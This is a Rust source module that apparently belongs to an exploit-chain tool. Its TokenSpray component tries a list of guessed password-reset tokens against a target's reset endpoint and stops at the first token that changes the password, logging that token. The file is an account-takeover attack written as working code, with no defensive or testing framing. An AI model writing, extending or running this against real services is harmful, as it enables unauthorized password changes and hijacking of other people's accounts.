use crate::config::ChainConfig;
use crate::http::Session;
use super::reset::change_password;
use tracing::{debug, info, warn};

/// Fallback bypass: try a short list of guessed reset tokens.
pub struct TokenSpray<'a> {
    session: &'a Session,
    config: &'a ChainConfig,
}

impl<'a> TokenSpray<'a> {
    pub fn new(session: &'a Session, config: &'a ChainConfig) -> Self {
        Self { session, config }
    }

    /// Stops at the first accepted token.
    pub async fn spray(&self, candidates: &[String]) -> bool {
        info!(candidates = candidates.len(), "Attempting token spray");

        for token in candidates {
            match change_password(self.session, self.config, token).await {
                Ok(()) => {
                    info!(token = %token, "Password changed using sprayed token");
                    return true;
                }
                Err(e) => debug!(token = %token, error = %e, "Token rejected"),
            }
        }

        warn!("Token spray failed");
        false
    }
}
